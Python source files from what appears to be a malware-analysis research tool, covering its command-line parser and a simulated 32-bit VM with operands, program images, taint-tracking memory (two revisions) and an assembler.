                        "(makes interrupted surveys resumable)")
    p.add_argument("--timeout", type=float, default=None,
                   help="per-sample wall-clock limit in seconds "
                        "(default: off; overdue workers are killed and the "
                        "sample retried, then quarantined)")
    p.add_argument("--retries", type=int, default=1,
                   help="extra attempts for a failing sample before it is "
                        "quarantined (default 1)")
    p.add_argument("--failures-json",
                   help="write quarantined-sample records (JSON) here")
    p.add_argument("--metrics", help="write an observability snapshot (JSON)")
    p.add_argument("--run-dir",
                   help="record live run telemetry (event ledger + manifest) "
                        "into this directory; watch with `repro tail`")
    p.add_argument("--progress", action="store_true",
                   help="render live progress (TTY status line, or periodic "
                        "log lines when stdout is not a TTY); implies a "
                        "temporary --run-dir when none is given")
    p.add_argument("--profile", action="store_true",
                   help="collect hot-path profiles (merged across workers); "
                        "prints the population-wide attribution table and, "
                        "with --run-dir, writes per-sample deltas to "
                        "profile.jsonl")
    p.set_defaults(func=cmd_survey)

    p = sub.add_parser("policy",
                       help="synthesize (and optionally enforce) a temporal "
                            "API policy for a sample")
    p.add_argument("sample", help="family name or .asm file path")
    p.add_argument("--json", help="write the policy document (JSON) here")
    p.add_argument("--enforce", action="store_true",
                   help="clinic-certify against the benign suite, then "
                        "re-attack a policy-enforcing host with the sample")
    p.set_defaults(func=cmd_policy)

    p = sub.add_parser("stats", help="render a captured metrics snapshot")
    p.add_argument("snapshot", help="JSON file written by --metrics")
    p.add_argument("--prom", action="store_true",
                   help="emit Prometheus text format instead of the summary")
    p.add_argument("--depth", type=int, default=6,
                   help="max span-tree depth in the summary (default 6)")
    p.add_argument("--flame-depth", type=int, default=None,
                   help="alias for --depth (wins when both are given)")
    p.add_argument("--top", type=int, default=None,
                   help="keep only the N widest entries per flame level")
    p.set_defaults(func=cmd_stats)

    p = sub.add_parser("profile",
                       help="analyze one sample with the hot-path profiler "
                            "and print the self-time attribution")
    p.add_argument("sample", help="family name or .asm file path")
    fmt = p.add_mutually_exclusive_group()
    fmt.add_argument("--json", action="store_true",
                     help="emit the nested profile tree as JSON")
    fmt.add_argument("--folded", action="store_true",
                     help="emit collapsed/folded stacks (flamegraph.pl / "
                          "speedscope input)")
    p.add_argument("--top", type=int, default=None,
                   help="table rows to keep (default: all)")
    p.set_defaults(func=cmd_profile)

    p = sub.add_parser("explain",
                       help="walk a sample's provenance journal per vaccine")
    p.add_argument("sample", help="family name or .asm file path")
    p.add_argument("--vaccine",
                   help="only explain vaccines/verdicts whose identifier "
                        "contains this substring (or whose resource type "
                        "equals it, e.g. 'mutex')")
    p.add_argument("--json", help="also write the raw journal (JSON) here")
    p.add_argument("--depth", type=int, default=12,
                   help="max causal-chain depth (default 12)")
    p.set_defaults(func=cmd_explain)

    p = sub.add_parser("tail",
                       help="replay or stream a run directory's telemetry ledger")
    p.add_argument("run_dir", help="directory written by `survey --run-dir`")
    p.add_argument("-f", "--follow", action="store_true",
                   help="keep streaming until the run finishes (attach to an "
                        "in-flight survey)")
    p.add_argument("--interval", type=float, default=0.2, metavar="S",
                   help="poll period in seconds while following "
                        "(default 0.2; larger values cost less I/O on "
                        "network filesystems)")
    p.add_argument("--json", action="store_true",
                   help="emit raw JSONL events instead of rendered lines")
    p.set_defaults(func=cmd_tail)

    p = sub.add_parser("runs",
                       help="list historical runs (and their outcomes) under a directory")
    p.add_argument("dir", help="parent directory of run dirs, or one run dir")
    p.set_defaults(func=cmd_runs)

    return parser


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
