"""The VM substrate: ISA, assembler, memory with per-byte taint, and the
interpreting CPU the malware corpus executes on."""

from .assembler import Assembler, AssemblyError, assemble
from .cpu import CPU, CpuFault, ExitStatus
from .isa import Instruction
from .memory import (
    DATA_BASE,
    HEAP_BASE,
    Memory,
    MemoryFault,
    RDATA_BASE,
    STACK_TOP,
    TEXT_BASE,
)
from .operands import ApiRef, Imm, Mem, Reg, mask32, to_signed
from .program import DataSection, Program

__all__ = [
    "ApiRef",
    "Assembler",
    "AssemblyError",
    "CPU",
    "CpuFault",
    "DataSection",
    "DATA_BASE",
    "ExitStatus",
    "HEAP_BASE",
    "Imm",
    "Instruction",
    "Mem",
    "Memory",
    "MemoryFault",
    "Program",
    "RDATA_BASE",
    "Reg",
    "STACK_TOP",
    "TEXT_BASE",
    "assemble",
    "mask32",
    "to_signed",
]
