"""Operand model for the simulated 32-bit ISA."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple, Union

REGISTERS = ("eax", "ebx", "ecx", "edx", "esi", "edi", "ebp", "esp")


@dataclass(frozen=True)
class Reg:
    """A general-purpose 32-bit register operand."""

    name: str

    def __post_init__(self) -> None:
        if self.name not in REGISTERS:
            raise ValueError(f"unknown register {self.name!r}")

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True)
class Imm:
    """An immediate value; ``symbol`` remembers the label it came from."""

    value: int
    symbol: Optional[str] = None

    def __str__(self) -> str:
        return self.symbol if self.symbol else f"0x{self.value & 0xFFFFFFFF:x}"


@dataclass(frozen=True)
class Mem:
    """Memory operand ``[base + index*scale + disp]`` with access size."""

    base: Optional[str] = None
    index: Optional[str] = None
    scale: int = 1
    disp: int = 0
    size: int = 4  # bytes: 1 or 4
    symbol: Optional[str] = None  # label contributing to disp, for display

    def __str__(self) -> str:
        parts = []
        if self.base:
            parts.append(self.base)
        if self.index:
            parts.append(f"{self.index}*{self.scale}" if self.scale != 1 else self.index)
        if self.symbol:
            parts.append(self.symbol)
        elif self.disp or not parts:
            parts.append(f"0x{self.disp & 0xFFFFFFFF:x}")
        inner = "+".join(parts)
        prefix = "byte " if self.size == 1 else ""
        return f"{prefix}[{inner}]"


@dataclass(frozen=True)
class ApiRef:
    """Target of ``call @SomeApi``."""

    name: str

    def __str__(self) -> str:
        return f"@{self.name}"


Operand = Union[Reg, Imm, Mem, ApiRef]


def mask32(value: int) -> int:
    return value & 0xFFFFFFFF


def to_signed(value: int) -> int:
    value = mask32(value)
    return value - 0x100000000 if value & 0x80000000 else value


def operands_text(operands: Tuple[Operand, ...]) -> str:
    return ", ".join(str(op) for op in operands)
