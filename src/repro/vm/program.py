"""Program image: assembled instructions plus initialized data sections."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from .isa import Instruction
from .memory import DATA_BASE, Memory, RDATA_BASE, TEXT_BASE


@dataclass
class DataSection:
    """An initialized data section with its load base."""

    name: str
    base: int
    image: bytes
    readonly: bool = False


@dataclass
class Program:
    """An assembled guest program.

    ``pc`` addressing: instruction *i* lives at ``TEXT_BASE + i`` (one address
    unit per instruction — simulated, not encoded x86).
    """

    name: str
    instructions: List[Instruction]
    labels: Dict[str, int]
    sections: List[DataSection] = field(default_factory=list)
    entry: int = TEXT_BASE
    source: str = ""
    metadata: Dict[str, object] = field(default_factory=dict)

    def __getstate__(self) -> Dict[str, object]:
        # The predecoded handler table (repro.vm.decode) and the superblock
        # region cache (repro.vm.superblock) are per-process closure caches —
        # unpicklable and meaningless elsewhere; workers and snapshot
        # resumes re-decode/re-discover locally.
        state = dict(self.__dict__)
        state.pop("_decoded_cache", None)
        state.pop("_superblock_cache", None)
        return state

    @property
    def text_base(self) -> int:
        return TEXT_BASE

    @property
    def text_end(self) -> int:
        return TEXT_BASE + len(self.instructions)

    def instruction_at(self, pc: int) -> Optional[Instruction]:
        idx = pc - TEXT_BASE
        if 0 <= idx < len(self.instructions):
            return self.instructions[idx]
        return None

    def label_at(self, addr: int) -> Optional[str]:
        for name, a in self.labels.items():
            if a == addr:
                return name
        return None

    def load_into(self, memory: Memory) -> None:
        """Map and initialize this program's data sections."""
        for section in self.sections:
            size = max(len(section.image), 0x1000)
            memory.map_region(section.base, size, readonly=section.readonly)
            memory.write_bytes(section.base, section.image)

    def disassemble(self) -> str:
        """Human-readable text listing (pc, instruction)."""
        addr_to_label = {a: n for n, a in self.labels.items()}
        lines = []
        for i, instr in enumerate(self.instructions):
            pc = TEXT_BASE + i
            if pc in addr_to_label:
                lines.append(f"{addr_to_label[pc]}:")
            lines.append(f"  0x{pc:08x}  {instr}")
        return "\n".join(lines)


__all__ = ["DataSection", "Program", "TEXT_BASE", "RDATA_BASE", "DATA_BASE"]
