"""Sparse byte-addressable memory with per-byte taint.

Per-byte taint is what makes *partial static* identifiers recoverable: after
``wsprintf(buf, "Global\\%s-99", random_part)`` the literal bytes of ``buf``
carry the format string's (static) provenance while the ``%s`` bytes carry the
random API's tag, so a regex can be cut along taint boundaries (paper §IV-C).
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

from ..taint.labels import EMPTY, TagSet, union
from .operands import mask32

TEXT_BASE = 0x00401000
RDATA_BASE = 0x00410000
DATA_BASE = 0x00420000
STACK_BASE = 0x00180000
STACK_TOP = 0x0018F000
HEAP_BASE = 0x00500000


class MemoryFault(Exception):
    """Raised on an access outside any mapped region."""

    def __init__(self, addr: int, why: str = "unmapped") -> None:
        super().__init__(f"memory fault at 0x{addr:08x}: {why}")
        self.addr = addr


class Memory:
    """Sparse memory: unwritten mapped bytes read as zero, untainted."""

    def __init__(self) -> None:
        self._bytes: Dict[int, int] = {}
        self._taint: Dict[int, TagSet] = {}
        #: (start, end) half-open mapped ranges.
        self._regions: List[Tuple[int, int]] = [
            (STACK_BASE, STACK_TOP + 0x1000),
            (HEAP_BASE, HEAP_BASE + 0x100000),
        ]
        #: Half-open ranges that are read-only constants (.rdata).
        self.readonly_ranges: List[Tuple[int, int]] = []

    def map_region(self, start: int, size: int, readonly: bool = False) -> None:
        self._regions.append((start, start + size))
        if readonly:
            self.readonly_ranges.append((start, start + size))

    def is_mapped(self, addr: int) -> bool:
        return any(start <= addr < end for start, end in self._regions)

    def is_readonly(self, addr: int) -> bool:
        return any(start <= addr < end for start, end in self.readonly_ranges)

    def _check(self, addr: int) -> None:
        if not self.is_mapped(addr):
            raise MemoryFault(addr)

    # -- byte-level -------------------------------------------------------

    def read_byte(self, addr: int) -> Tuple[int, TagSet]:
        addr = mask32(addr)
        self._check(addr)
        return self._bytes.get(addr, 0), self._taint.get(addr, EMPTY)

    def write_byte(self, addr: int, value: int, taint: TagSet = EMPTY) -> None:
        addr = mask32(addr)
        self._check(addr)
        self._bytes[addr] = value & 0xFF
        if taint:
            self._taint[addr] = taint
        else:
            self._taint.pop(addr, None)

    # -- untainted fast path (predecoded interpreter) ---------------------

    def read_plain(self, addr: int, size: int) -> int:
        """Multi-byte read without taint accounting.

        Valid only while the caller guarantees no live taint is being
        skipped (the CPU's fast-mode invariant).  Fault behaviour matches
        the byte loop: the first unmapped byte raises."""
        value = 0
        data = self._bytes
        for i in range(size):
            a = (addr + i) & 0xFFFFFFFF
            if not self.is_mapped(a):
                raise MemoryFault(a)
            value |= data.get(a, 0) << (8 * i)
        return value

    def write_plain(self, addr: int, value: int, size: int) -> None:
        """Multi-byte untainted write without TagSet plumbing.

        Equivalent to a ``write_byte`` loop with EMPTY taint: earlier bytes
        stay written when a later byte faults, and any stale taint on the
        touched bytes is dropped."""
        data = self._bytes
        taint = self._taint
        for i in range(size):
            a = (addr + i) & 0xFFFFFFFF
            if not self.is_mapped(a):
                raise MemoryFault(a)
            data[a] = (value >> (8 * i)) & 0xFF
            if taint:
                taint.pop(a, None)

    # -- word-level -------------------------------------------------------

    def read_u32(self, addr: int) -> Tuple[int, TagSet]:
        value = 0
        tagsets = []
        for i in range(4):
            byte, tags = self.read_byte(addr + i)
            value |= byte << (8 * i)
            if tags:
                tagsets.append(tags)
        return value, union(*tagsets)

    def write_u32(self, addr: int, value: int, taint: TagSet = EMPTY) -> None:
        for i in range(4):
            self.write_byte(addr + i, (value >> (8 * i)) & 0xFF, taint)

    # -- bulk helpers (used by loader and the API layer) -------------------

    def write_bytes(self, addr: int, data: bytes, taint: TagSet = EMPTY) -> None:
        for i, b in enumerate(data):
            self.write_byte(addr + i, b, taint)

    def write_bytes_tainted(
        self, addr: int, data: bytes, taints: Iterable[TagSet]
    ) -> None:
        """Write bytes each with its own tag set (string taint transfer)."""
        for i, (b, t) in enumerate(zip(data, taints)):
            self.write_byte(addr + i, b, t)

    def read_bytes(self, addr: int, size: int) -> bytes:
        return bytes(self.read_byte(addr + i)[0] for i in range(size))

    def read_cstring(
        self, addr: int, max_len: int = 4096
    ) -> Tuple[str, List[TagSet]]:
        """Read a NUL-terminated ASCII string and its per-byte taint."""
        chars: List[str] = []
        taints: List[TagSet] = []
        for i in range(max_len):
            byte, tags = self.read_byte(addr + i)
            if byte == 0:
                break
            chars.append(chr(byte))
            taints.append(tags)
        return "".join(chars), taints

    def write_cstring(
        self, addr: int, text: str, taints: Optional[List[TagSet]] = None
    ) -> None:
        data = text.encode("latin-1", errors="replace")
        if taints is None:
            self.write_bytes(addr, data + b"\x00")
        else:
            self.write_bytes_tainted(addr, data, taints)
            self.write_byte(addr + len(data), 0)

    def taint_of_range(self, addr: int, size: int) -> TagSet:
        return union(*(self.read_byte(addr + i)[1] for i in range(size)))
