"""Sparse byte-addressable memory with per-byte taint.

Per-byte taint is what makes *partial static* identifiers recoverable: after
``wsprintf(buf, "Global\\%s-99", random_part)`` the literal bytes of ``buf``
carry the format string's (static) provenance while the ``%s`` bytes carry the
random API's tag, so a regex can be cut along taint boundaries (paper §IV-C).
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

from ..taint.labels import EMPTY, TagSet, union
from .operands import mask32

TEXT_BASE = 0x00401000
RDATA_BASE = 0x00410000
DATA_BASE = 0x00420000
STACK_BASE = 0x00180000
STACK_TOP = 0x0018F000
HEAP_BASE = 0x00500000


class MemoryFault(Exception):
    """Raised on an access outside any mapped region."""

    def __init__(self, addr: int, why: str = "unmapped") -> None:
        super().__init__(f"memory fault at 0x{addr:08x}: {why}")
        self.addr = addr


class TaintBail(Exception):
    """Raised by :meth:`Memory.read_checked` when a byte carries live taint.

    The superblock tier only executes values it has *proven* untainted; a
    tainted load aborts the compiled region so the CPU can replay the
    instruction on the exact slow path (full taint propagation, predicate
    events).  This is control flow, not an error."""


class Memory:
    """Sparse memory: unwritten mapped bytes read as zero, untainted."""

    def __init__(self) -> None:
        self._bytes: Dict[int, int] = {}
        self._taint: Dict[int, TagSet] = {}
        #: (start, end) half-open mapped ranges.
        self._regions: List[Tuple[int, int]] = [
            (STACK_BASE, STACK_TOP + 0x1000),
            (HEAP_BASE, HEAP_BASE + 0x100000),
        ]
        #: Half-open ranges that are read-only constants (.rdata).
        self.readonly_ranges: List[Tuple[int, int]] = []

    @classmethod
    def restore(
        cls,
        bytes_map: Dict[int, int],
        taint_map: Dict[int, TagSet],
        regions: Iterable[Tuple[int, int]],
        readonly_ranges: Iterable[Tuple[int, int]],
    ) -> "Memory":
        """Rebuild a memory image from snapshot state (owned here, so a new
        ``__init__`` attribute cannot silently be skipped on the resume
        path: construction goes through ``cls()`` and then overwrites).

        Inputs are copied — the snapshot stays independent of the instance.
        """
        memory = cls()
        memory._bytes = dict(bytes_map)
        memory._taint = dict(taint_map)
        memory._regions = list(regions)
        memory.readonly_ranges = list(readonly_ranges)
        return memory

    def map_region(self, start: int, size: int, readonly: bool = False) -> None:
        self._regions.append((start, start + size))
        if readonly:
            self.readonly_ranges.append((start, start + size))

    def is_mapped(self, addr: int) -> bool:
        # Plain loop, not any(genexpr): this is the hottest function in the
        # whole pipeline (one call per byte touched) and the generator frame
        # costs more than the comparisons.
        for start, end in self._regions:
            if start <= addr < end:
                return True
        return False

    def is_readonly(self, addr: int) -> bool:
        for start, end in self.readonly_ranges:
            if start <= addr < end:
                return True
        return False

    def _check(self, addr: int) -> None:
        if not self.is_mapped(addr):
            raise MemoryFault(addr)

    # -- byte-level -------------------------------------------------------

    def read_byte(self, addr: int) -> Tuple[int, TagSet]:
        addr = mask32(addr)
        self._check(addr)
        return self._bytes.get(addr, 0), self._taint.get(addr, EMPTY)

    def write_byte(self, addr: int, value: int, taint: TagSet = EMPTY) -> None:
        addr = mask32(addr)
        self._check(addr)
        self._bytes[addr] = value & 0xFF
        if taint:
            self._taint[addr] = taint
        else:
            self._taint.pop(addr, None)

    # -- untainted fast path (predecoded interpreter) ---------------------

    def read_plain(self, addr: int, size: int) -> int:
        """Multi-byte read without taint accounting.

        Valid only while the caller guarantees no live taint is being
        skipped (the CPU's fast-mode invariant).  Fault behaviour matches
        the byte loop: the first unmapped byte raises.  The common case —
        the whole span inside one region — does a single bounds check
        instead of one ``is_mapped`` scan per byte."""
        a0 = addr & 0xFFFFFFFF
        last = a0 + size - 1
        if last <= 0xFFFFFFFF:
            for start, end in self._regions:
                if start <= a0 and last < end:
                    data = self._bytes
                    if size == 4:
                        return (
                            data.get(a0, 0)
                            | data.get(a0 + 1, 0) << 8
                            | data.get(a0 + 2, 0) << 16
                            | data.get(a0 + 3, 0) << 24
                        )
                    if size == 1:
                        return data.get(a0, 0)
                    value = 0
                    for i in range(size):
                        value |= data.get(a0 + i, 0) << (8 * i)
                    return value
        # Span wraps 2^32 or straddles a region boundary: per-byte walk so
        # the first unmapped byte faults, exactly like the write_byte loop.
        value = 0
        data = self._bytes
        for i in range(size):
            a = (addr + i) & 0xFFFFFFFF
            if not self.is_mapped(a):
                raise MemoryFault(a)
            value |= data.get(a, 0) << (8 * i)
        return value

    def read_checked(self, addr: int, size: int) -> int:
        """``read_plain`` that additionally *proves* the bytes are untainted.

        The superblock tier calls this for every memory load it compiles:
        a mapped, untainted span reads like ``read_plain``; the first byte
        carrying taint raises :class:`TaintBail` before any value is
        consumed, so the caller can replay the instruction on the slow
        path.  The first unmapped byte still raises :class:`MemoryFault`
        (same fault order as the byte loop)."""
        taint = self._taint
        if not taint:
            return self.read_plain(addr, size)
        a0 = addr & 0xFFFFFFFF
        last = a0 + size - 1
        if last <= 0xFFFFFFFF:
            for start, end in self._regions:
                if start <= a0 and last < end:
                    data = self._bytes
                    if size == 4:
                        if (
                            a0 in taint
                            or a0 + 1 in taint
                            or a0 + 2 in taint
                            or a0 + 3 in taint
                        ):
                            raise TaintBail()
                        return (
                            data.get(a0, 0)
                            | data.get(a0 + 1, 0) << 8
                            | data.get(a0 + 2, 0) << 16
                            | data.get(a0 + 3, 0) << 24
                        )
                    value = 0
                    for i in range(size):
                        a = a0 + i
                        if a in taint:
                            raise TaintBail()
                        value |= data.get(a, 0) << (8 * i)
                    return value
        value = 0
        data = self._bytes
        for i in range(size):
            a = (addr + i) & 0xFFFFFFFF
            if not self.is_mapped(a):
                raise MemoryFault(a)
            if a in taint:
                raise TaintBail()
            value |= data.get(a, 0) << (8 * i)
        return value

    def write_plain(self, addr: int, value: int, size: int) -> None:
        """Multi-byte untainted write without TagSet plumbing.

        Equivalent to a ``write_byte`` loop with EMPTY taint: earlier bytes
        stay written when a later byte faults, and any stale taint on the
        touched bytes is dropped."""
        data = self._bytes
        taint = self._taint
        a0 = addr & 0xFFFFFFFF
        last = a0 + size - 1
        if last <= 0xFFFFFFFF:
            for start, end in self._regions:
                if start <= a0 and last < end:
                    if size == 4:
                        data[a0] = value & 0xFF
                        data[a0 + 1] = (value >> 8) & 0xFF
                        data[a0 + 2] = (value >> 16) & 0xFF
                        data[a0 + 3] = (value >> 24) & 0xFF
                        if taint:
                            taint.pop(a0, None)
                            taint.pop(a0 + 1, None)
                            taint.pop(a0 + 2, None)
                            taint.pop(a0 + 3, None)
                        return
                    for i in range(size):
                        a = a0 + i
                        data[a] = (value >> (8 * i)) & 0xFF
                        if taint:
                            taint.pop(a, None)
                    return
        for i in range(size):
            a = (addr + i) & 0xFFFFFFFF
            if not self.is_mapped(a):
                raise MemoryFault(a)
            data[a] = (value >> (8 * i)) & 0xFF
            if taint:
                taint.pop(a, None)

    # -- word-level -------------------------------------------------------

    def read_span(self, addr: int, size: int) -> Tuple[int, TagSet]:
        """Multi-byte read with aggregated taint — the full-fat equivalent
        of ``read_plain``.

        Semantically identical to a ``read_byte`` loop (API argument
        decoding and the slow interpreter both lean on it), but the common
        whole-span-in-one-region case does a single bounds check and only
        consults the taint dict when any taint exists at all.  The
        wrap/straddle fallback keeps the byte loop's fault order."""
        a0 = addr & 0xFFFFFFFF
        last = a0 + size - 1
        if last <= 0xFFFFFFFF:
            for start, end in self._regions:
                if start <= a0 and last < end:
                    data = self._bytes
                    if size == 4:
                        value = (
                            data.get(a0, 0)
                            | data.get(a0 + 1, 0) << 8
                            | data.get(a0 + 2, 0) << 16
                            | data.get(a0 + 3, 0) << 24
                        )
                    else:
                        value = 0
                        for i in range(size):
                            value |= data.get(a0 + i, 0) << (8 * i)
                    taint = self._taint
                    if taint:
                        for i in range(size):
                            if a0 + i in taint:
                                return value, union(
                                    *(
                                        t
                                        for j in range(size)
                                        if (t := taint.get(a0 + j))
                                    )
                                )
                    return value, EMPTY
        value = 0
        tagsets = []
        for i in range(size):
            byte, tags = self.read_byte(addr + i)
            value |= byte << (8 * i)
            if tags:
                tagsets.append(tags)
        return value, union(*tagsets)

    def write_span(self, addr: int, value: int, size: int, taint: TagSet = EMPTY) -> None:
        """Multi-byte write, one taint tag for the whole span.

        Equivalent to a ``write_byte`` loop: earlier bytes stay written
        when a later byte faults (fallback path), stale taint on the
        touched bytes is replaced or dropped."""
        a0 = addr & 0xFFFFFFFF
        last = a0 + size - 1
        if last <= 0xFFFFFFFF:
            for start, end in self._regions:
                if start <= a0 and last < end:
                    data = self._bytes
                    tmap = self._taint
                    if taint:
                        for i in range(size):
                            a = a0 + i
                            data[a] = (value >> (8 * i)) & 0xFF
                            tmap[a] = taint
                    elif tmap:
                        for i in range(size):
                            a = a0 + i
                            data[a] = (value >> (8 * i)) & 0xFF
                            tmap.pop(a, None)
                    else:
                        for i in range(size):
                            data[a0 + i] = (value >> (8 * i)) & 0xFF
                    return
        for i in range(size):
            self.write_byte(addr + i, (value >> (8 * i)) & 0xFF, taint)

    def read_u32(self, addr: int) -> Tuple[int, TagSet]:
        return self.read_span(addr, 4)

    def write_u32(self, addr: int, value: int, taint: TagSet = EMPTY) -> None:
        self.write_span(addr, value, 4, taint)

    # -- bulk helpers (used by loader and the API layer) -------------------

    def write_bytes(self, addr: int, data: bytes, taint: TagSet = EMPTY) -> None:
        a0 = addr & 0xFFFFFFFF
        last = a0 + len(data) - 1
        if data and last <= 0xFFFFFFFF:
            for start, end in self._regions:
                if start <= a0 and last < end:
                    store = self._bytes
                    tmap = self._taint
                    if taint:
                        for i, b in enumerate(data):
                            store[a0 + i] = b
                            tmap[a0 + i] = taint
                    elif tmap:
                        for i, b in enumerate(data):
                            store[a0 + i] = b
                            tmap.pop(a0 + i, None)
                    else:
                        for i, b in enumerate(data):
                            store[a0 + i] = b
                    return
        for i, b in enumerate(data):
            self.write_byte(addr + i, b, taint)

    def write_bytes_tainted(
        self, addr: int, data: bytes, taints: Iterable[TagSet]
    ) -> None:
        """Write bytes each with its own tag set (string taint transfer)."""
        for i, (b, t) in enumerate(zip(data, taints)):
            self.write_byte(addr + i, b, t)

    def read_bytes(self, addr: int, size: int) -> bytes:
        a0 = addr & 0xFFFFFFFF
        last = a0 + size - 1
        if size and last <= 0xFFFFFFFF:
            for start, end in self._regions:
                if start <= a0 and last < end:
                    data = self._bytes
                    return bytes(data.get(a0 + i, 0) for i in range(size))
        return bytes(self.read_byte(addr + i)[0] for i in range(size))

    def read_cstring(
        self, addr: int, max_len: int = 4096
    ) -> Tuple[str, List[TagSet]]:
        """Read a NUL-terminated ASCII string and its per-byte taint.

        API argument decoding reads strings constantly; caching the region
        containing the cursor avoids one mapped-region scan per byte while
        keeping the byte loop's fault order (first unmapped byte raises)."""
        raw = bytearray()
        data = self._bytes
        taint = self._taint
        lo = hi = 0
        for i in range(max_len):
            a = (addr + i) & 0xFFFFFFFF
            if not lo <= a < hi:
                for lo, hi in self._regions:
                    if lo <= a < hi:
                        break
                else:
                    raise MemoryFault(a)
            byte = data.get(a, 0)
            if byte == 0:
                break
            raw.append(byte)
        if taint:
            taints = [taint.get((addr + i) & 0xFFFFFFFF, EMPTY) for i in range(len(raw))]
        else:
            taints = [EMPTY] * len(raw)
        return raw.decode("latin-1"), taints

    def write_cstring(
        self, addr: int, text: str, taints: Optional[List[TagSet]] = None
    ) -> None:
        data = text.encode("latin-1", errors="replace")
        if taints is None:
            self.write_bytes(addr, data + b"\x00")
        else:
            self.write_bytes_tainted(addr, data, taints)
            self.write_byte(addr + len(data), 0)

    def taint_of_range(self, addr: int, size: int) -> TagSet:
        return union(*(self.read_byte(addr + i)[1] for i in range(size)))
