"""Two-pass assembler for the simulated ISA.

Syntax (a small NASM-flavoured dialect)::

    .section .rdata
    fmt:     .asciz "Global\\\\%s-99"
    table:   .dword 1, 2, 3
    .section .data
    buf:     .space 64
    .section .text
    main:
        push fmt
        call @GetComputerNameA
        mov eax, [ebp-0x1c]
        movb [buf+esi], 0x41
        cmp eax, 0
        jz fail
        halt

Pass 1 collects labels (text labels address instructions, data labels address
bytes); pass 2 parses operands with all symbols known.
"""

from __future__ import annotations

import re
from typing import Dict, List, Optional, Tuple

from .isa import Instruction
from .memory import DATA_BASE, RDATA_BASE, TEXT_BASE
from .operands import REGISTERS, ApiRef, Imm, Mem, Operand
from .operands import Reg
from .program import DataSection, Program


class AssemblyError(Exception):
    def __init__(self, message: str, line: int) -> None:
        super().__init__(f"line {line}: {message}")
        self.line = line


_SECTION_BASES = {".text": TEXT_BASE, ".rdata": RDATA_BASE, ".data": DATA_BASE}
_LABEL_RE = re.compile(r"^([A-Za-z_.$][\w.$]*):\s*(.*)$")
_NUMBER_RE = re.compile(r"^[-+]?(0x[0-9a-fA-F]+|\d+)$")
_CHAR_RE = re.compile(r"^'(\\?.)'$")


def _strip_comment(line: str) -> str:
    out = []
    in_string = False
    i = 0
    while i < len(line):
        ch = line[i]
        if ch == '"' and (i == 0 or line[i - 1] != "\\"):
            in_string = not in_string
        if ch == ";" and not in_string:
            break
        out.append(ch)
        i += 1
    return "".join(out).rstrip()


def _parse_string_literal(text: str, line: int) -> bytes:
    text = text.strip()
    if len(text) < 2 or text[0] != '"' or text[-1] != '"':
        raise AssemblyError(f"bad string literal {text!r}", line)
    body = text[1:-1]
    out = bytearray()
    i = 0
    escapes = {"n": 10, "r": 13, "t": 9, "0": 0, "\\": 92, '"': 34}
    while i < len(body):
        ch = body[i]
        if ch == "\\" and i + 1 < len(body):
            nxt = body[i + 1]
            if nxt == "x" and i + 3 < len(body):
                out.append(int(body[i + 2:i + 4], 16))
                i += 4
                continue
            if nxt in escapes:
                out.append(escapes[nxt])
                i += 2
                continue
        out.append(ord(ch))
        i += 1
    return bytes(out)


def _parse_number(token: str, line: int) -> int:
    token = token.strip()
    m = _CHAR_RE.match(token)
    if m:
        ch = m.group(1)
        return ord(ch[-1])
    if not _NUMBER_RE.match(token):
        raise AssemblyError(f"bad number {token!r}", line)
    return int(token, 0)


def _split_operands(text: str) -> List[str]:
    """Split on commas not inside brackets or quotes."""
    parts: List[str] = []
    depth = 0
    in_string = False
    current = []
    for ch in text:
        if ch == '"':
            in_string = not in_string
        elif not in_string:
            if ch == "[":
                depth += 1
            elif ch == "]":
                depth -= 1
            elif ch == "," and depth == 0:
                parts.append("".join(current).strip())
                current = []
                continue
        current.append(ch)
    tail = "".join(current).strip()
    if tail:
        parts.append(tail)
    return parts


class Assembler:
    """Assembles source text into a :class:`Program`."""

    def __init__(self) -> None:
        self._labels: Dict[str, int] = {}

    def assemble(self, source: str, name: str = "program") -> Program:
        raw_instrs, labels, sections = self._pass1(source)
        self._labels = labels
        instructions = [
            Instruction(mnemonic, tuple(self._parse_operand(tok, mnemonic, ln) for tok in toks), line=ln)
            for mnemonic, toks, ln in raw_instrs
        ]
        entry = labels.get("main", labels.get("start", TEXT_BASE))
        return Program(
            name=name,
            instructions=instructions,
            labels=dict(labels),
            sections=sections,
            entry=entry,
            source=source,
        )

    # -- pass 1 ------------------------------------------------------------

    def _pass1(
        self, source: str
    ) -> Tuple[List[Tuple[str, List[str], int]], Dict[str, int], List[DataSection]]:
        labels: Dict[str, int] = {}
        raw: List[Tuple[str, List[str], int]] = []
        data_images: Dict[str, bytearray] = {".rdata": bytearray(), ".data": bytearray()}
        section = ".text"

        for lineno, rawline in enumerate(source.splitlines(), start=1):
            line = _strip_comment(rawline).strip()
            if not line:
                continue
            if line.startswith(".section"):
                sec = line.split()[1]
                if sec not in _SECTION_BASES:
                    raise AssemblyError(f"unknown section {sec}", lineno)
                section = sec
                continue
            m = _LABEL_RE.match(line)
            if m:
                label, rest = m.group(1), m.group(2).strip()
                if label in labels:
                    raise AssemblyError(f"duplicate label {label}", lineno)
                if section == ".text":
                    labels[label] = TEXT_BASE + len(raw)
                else:
                    labels[label] = _SECTION_BASES[section] + len(data_images[section])
                if not rest:
                    continue
                line = rest
            if section == ".text":
                raw.append(self._parse_instruction_tokens(line, lineno))
            else:
                self._parse_data_directive(line, lineno, data_images[section])

        sections = [
            DataSection(".rdata", RDATA_BASE, bytes(data_images[".rdata"]), readonly=True),
            DataSection(".data", DATA_BASE, bytes(data_images[".data"]), readonly=False),
        ]
        return raw, labels, sections

    @staticmethod
    def _parse_instruction_tokens(line: str, lineno: int) -> Tuple[str, List[str], int]:
        parts = line.split(None, 1)
        mnemonic = parts[0].lower()
        operand_text = parts[1] if len(parts) > 1 else ""
        return mnemonic, _split_operands(operand_text), lineno

    @staticmethod
    def _parse_data_directive(line: str, lineno: int, image: bytearray) -> None:
        parts = line.split(None, 1)
        directive = parts[0].lower()
        arg = parts[1] if len(parts) > 1 else ""
        if directive in (".asciz", ".ascii"):
            data = _parse_string_literal(arg, lineno)
            image.extend(data)
            if directive == ".asciz":
                image.append(0)
        elif directive == ".dword":
            for token in _split_operands(arg):
